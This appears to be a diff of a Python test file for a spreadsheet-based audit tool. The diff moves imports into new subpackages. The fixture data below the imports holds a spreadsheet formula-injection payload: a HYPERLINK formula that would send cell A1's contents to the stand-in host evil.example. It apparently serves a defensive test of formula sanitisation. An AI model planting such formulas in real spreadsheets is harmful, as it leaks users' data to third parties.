@@ -19,12 +19,12 @@ import pandas as pd
 import pytest
 from python_calamine import CalamineWorkbook
 
-from ictaudit import tables
-from ictaudit.forms import write_form
-from ictaudit.pipeline import intake_step, report_step, score_step, validate_step
-from ictaudit.rubric import load_rubric
-from ictaudit.sample import RUBRIC_ID, write_sample_cycle
-from ictaudit.tables import FORMULA_START
+from ictaudit.common import tables
+from ictaudit.common.tables import FORMULA_START
+from ictaudit.intake.forms import write_form
+from ictaudit.rules.rubric import load_rubric
+from ictaudit.run.pipeline import intake_step, report_step, score_step, validate_step
+from ictaudit.year.sample import RUBRIC_ID, write_sample_cycle
 
 NAMES = {
     "van-phong-ubnd-tinh": '=HYPERLINK("http://evil.example/?q="&A1,"Văn phòng UBND tỉnh")',
